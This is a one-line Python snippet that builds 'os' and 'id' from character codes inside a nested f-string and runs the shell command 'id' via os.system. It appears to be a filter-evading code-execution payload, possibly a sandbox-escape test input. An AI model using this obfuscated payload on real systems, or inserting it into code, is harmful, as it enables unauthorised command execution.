x = f"{f'{__import__(chr(111)+chr(115)).system(chr(105)+chr(100))}'}"
